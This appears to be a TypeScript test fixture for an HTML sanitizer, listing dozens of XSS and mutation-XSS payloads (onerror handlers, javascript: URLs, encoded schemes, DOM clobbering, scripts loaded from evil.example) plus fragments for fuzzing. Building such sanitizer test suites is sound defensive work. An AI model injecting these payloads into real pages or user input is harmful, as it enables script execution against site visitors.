/** Markup that has fooled sanitizers or readers somewhere: for tests. */
export const nasty: readonly string[] = [
  '<script>alert(1)</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<img src=x onerror=alert(1)>', '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">', '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>', '<noframes></noframes><img src=x onerror=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>', '<style>@import "//evil.example";</style>', '<p style="background:url(javascript:alert(1))">x</p>', '<form action="javascript:alert(1)"><button>x</button></form>',
  '<a href="javascript:alert(1)">x</a>', '<a href="java&#10;script:alert(1)">x</a>', '<a href="&#106;avascript:alert(1)">x</a>', '<a href="\u0001javascript:alert(1)">x</a>', '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:x">x</a>', '<iframe src="https://evil.example"></iframe>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<object data="x"></object>', '<embed src="x">', '<base href="//evil.example/">',
  '<link rel=stylesheet href="//evil.example/x.css">', '<meta http-equiv=refresh content="0;url=javascript:alert(1)">', '<body onload=alert(1)>', '<input autofocus onfocus=alert(1)>', '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>', '<audio src=x onerror=alert(1)>', '<marquee onstart=alert(1)>x</marquee>', '<textarea></textarea><script>alert(1)</script>', '<title><img src=x onerror=alert(1)></title>',
  '<plaintext><script>alert(1)</script>', '<!--><img src=x onerror=alert(1)>-->', '<![CDATA[<script>alert(1)</script>]]>', '<?xml version="1.0"?><script>alert(1)</script>', '<!DOCTYPE html><script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>', '<<script>script>alert(1)<</script>/script>', '<img src="x` `<script>alert(1)</script>"` `>', '<a href=`javascript:alert(1)`>x</a>', '<p/onclick=alert(1)>x', '<img/src=x/onerror=alert(1)>',
  '<img src="javascript:alert(1)">', '<img src="data:image/svg+xml,<svg onload=alert(1)>">', '<img srcset="x 1x, javascript:alert(1) 2x">', '<table background="javascript:alert(1)"><tr><td>x</table>', '<select><option><script>alert(1)</script></select>',
  '<math href="javascript:alert(1)">x</math>', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', '<svg><foreignObject><p onclick=alert(1)>', '<b <script>alert(1)</script>', '<a href="https://a.gr" href="javascript:alert(1)">x</a>',
  '<a href="https://a.gr\\" onmouseover=alert(1) x="">x</a>', '<p id="__proto__">x</p>', '<a id=location name=cookie>x</a>', '<p title="x" onclick', '<', '</', '<a', '<a href="', '&lt;script&gt;alert(1)&lt;/script&gt;', '&amp;lt;script&amp;gt;', '&#0;&#x110000;&#xD800;', '\0<\0script>alert(1)</script>',
]

/** Pieces to put together at random. */
export const pieces: readonly string[] = [
  ...nasty.slice(0, 30), '<', '>', '"', "'", '/', '=', '&', '&lt;', '&amp;', '&#60;', '<p>', '</p>', '<a href="', 'https://a.gr', 'javascript:', '<b>', '</b>', '<li>', '<ul>', '</ul>', '<table>', '<tr>', '<td>', '<svg>', '</svg>', '<math>',
  '<style>', '</style>', '<xmp>', '</xmp>', '<!--', '-->', '<script>', '</script>', '<template>', '<img ', 'src=x ', 'onerror=alert(1) ', 'ψωμί', ' ', '\n', '\0', '<textarea>', '</textarea>', '<noscript>', '<span lang="', '<blockquote>', '<pre>', '<select>', '<option>',
]
